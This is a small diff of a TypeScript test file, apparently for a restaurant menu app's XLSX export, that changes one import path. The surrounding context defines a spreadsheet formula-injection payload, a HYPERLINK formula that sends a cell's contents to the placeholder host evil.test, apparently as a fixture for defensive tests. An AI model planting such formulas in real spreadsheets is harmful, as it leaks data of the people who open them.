@@ -6,7 +6,7 @@ import { optionGroups, optionValues, restaurants } from '../../src/db/schema/ind
 import { createUserFixture } from '../helpers/fixtures.ts';
 import { signIn, type SignedIn } from '../helpers/sign-in.ts';
 import { buildTestApp, type TestApp } from '../helpers/test-app.ts';
-import { call, emptyLocation, type Locale } from '../menus/menu-api.ts';
+import { call, emptyLocation, type Locale } from '../helpers/menu-api.ts';
 
 const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
 const INJECTED = '=HYPERLINK("http://evil.test/?x="&A1,"Click me")';
